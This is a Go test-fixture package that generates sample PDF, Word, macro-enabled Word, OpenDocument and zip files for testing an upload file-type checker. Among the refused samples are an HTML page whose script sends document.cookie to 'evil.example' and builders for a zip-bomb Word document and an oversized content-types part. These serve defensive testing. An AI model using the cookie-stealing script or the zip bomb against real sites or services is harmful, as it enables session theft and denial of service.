// Package sniffdata makes small files of each kind the evidence check meets, accepted and
// refused, for the tests of the sniff package, the API and the browser test.
package sniffdata

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"io"
	"sort"
	"strings"
)

// PDF returns a small, valid one-page PDF that says text.
func PDF() []byte { return PDFSaying("Official reply of the Party") }

// PDFSaying returns a small one-page PDF with one line of text.
func PDFSaying(text string) []byte {
	text = strings.NewReplacer(`\`, `\\`, "(", `\(`, ")", `\)`).Replace(text)
	stream := "BT /F1 18 Tf 72 720 Td (" + text + ") Tj ET"
	objs := []string{
		"<< /Type /Catalog /Pages 2 0 R >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
		"<< /Length " + itoa(len(stream)) + " >>\nstream\n" + stream + "\nendstream",
		"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
	}
	var b bytes.Buffer
	b.WriteString("%PDF-1.4\n")
	offsets := make([]int, len(objs))
	for i, o := range objs {
		offsets[i] = b.Len()
		b.WriteString(itoa(i+1) + " 0 obj\n" + o + "\nendobj\n")
	}
	xref := b.Len()
	b.WriteString("xref\n0 " + itoa(len(objs)+1) + "\n0000000000 65535 f \n")
	for _, off := range offsets {
		s := itoa(off)
		b.WriteString(strings.Repeat("0", 10-len(s)) + s + " 00000 n \n")
	}
	b.WriteString("trailer\n<< /Size " + itoa(len(objs)+1) + " /Root 1 0 R >>\nstartxref\n" + itoa(xref) + "\n%%EOF\n")
	return b.Bytes()
}

func itoa(n int) string {
	if n == 0 {
		return "0"
	}
	var d []byte
	for ; n > 0; n /= 10 {
		d = append([]byte{byte('0' + n%10)}, d...)
	}
	return string(d)
}

// HTML returns an HTML page with a script, as someone might name it report.pdf.
func HTML() []byte {
	return []byte("<!DOCTYPE html><html><head><title>Reply</title></head><body><script>document.location='https://evil.example/'+document.cookie</script></body></html>")
}

// Zip returns a zip of the given entries (deflated), in name order.
func Zip(entries map[string]string) []byte {
	names := make([]string, 0, len(entries))
	for n := range entries {
		names = append(names, n)
	}
	sort.Strings(names)
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for _, n := range names {
		f, _ := w.Create(n)
		_, _ = io.WriteString(f, entries[n])
	}
	_ = w.Close()
	return b.Bytes()
}

const contentTypes = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Default Extension="xml" ContentType="application/xml"/>
<Override PartName="/word/document.xml" ContentType="%s"/>
</Types>`

const rels = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>
</Relationships>`

const document = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Official reply</w:t></w:r></w:p></w:body></w:document>`

func docx(mainType string, extra map[string]string) []byte {
	entries := map[string]string{
		"[Content_Types].xml": strings.Replace(contentTypes, "%s", mainType, 1),
		"_rels/.rels":         rels,
		"word/document.xml":   document,
	}
	for k, v := range extra {
		entries[k] = v
	}
	return Zip(entries)
}

// DOCX returns a minimal Word document.
func DOCX() []byte {
	return docx("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", nil)
}

// DOCM returns a minimal macro-enabled Word document.
func DOCM() []byte {
	return docx("application/vnd.ms-word.document.macroEnabled.main+xml", map[string]string{"word/vbaProject.bin": "\x00macro"})
}

// ODF returns a minimal OpenDocument of the given type: the mimetype entry first and stored, as
// the format wants.
func ODF(mediaType string) []byte {
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	f, _ := w.CreateHeader(&zip.FileHeader{Name: "mimetype", Method: zip.Store})
	_, _ = io.WriteString(f, mediaType)
	f, _ = w.Create("content.xml")
	_, _ = io.WriteString(f, `<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>`)
	f, _ = w.Create("META-INF/manifest.xml")
	_, _ = io.WriteString(f, `<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>`)
	_ = w.Close()
	return b.Bytes()
}

// ZipBombDOCX returns a valid-looking Word document one of whose parts is expanded bytes of
// zeros: a file of a few tens of KiB that expands a thousand times.
func ZipBombDOCX(expanded int) []byte {
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	w.RegisterCompressor(zip.Deflate, func(out io.Writer) (io.WriteCloser, error) {
		return flate.NewWriter(out, flate.BestCompression)
	})
	for _, e := range []struct{ name, body string }{
		{"[Content_Types].xml", strings.Replace(contentTypes, "%s", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", 1)},
		{"_rels/.rels", rels},
		{"word/document.xml", document},
	} {
		f, _ := w.Create(e.name)
		_, _ = io.WriteString(f, e.body)
	}
	f, _ := w.Create("word/media/padding.bin")
	zeros := make([]byte, 1<<20)
	for n := 0; n < expanded; n += len(zeros) {
		_, _ = f.Write(zeros[:min(len(zeros), expanded-n)])
	}
	_ = w.Close()
	return b.Bytes()
}

// HugeContentTypesDOCX returns a Word document whose [Content_Types].xml expands to 2 MiB of
// whitespace before its types: reading it must stop at the bound.
func HugeContentTypesDOCX() []byte {
	ct := strings.Replace(contentTypes, "<Types", strings.Repeat(" ", 2<<20)+"<Types", 1)
	ct = strings.Replace(ct, "%s", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", 1)
	return Zip(map[string]string{"[Content_Types].xml": ct, "_rels/.rels": rels, "word/document.xml": document})
}
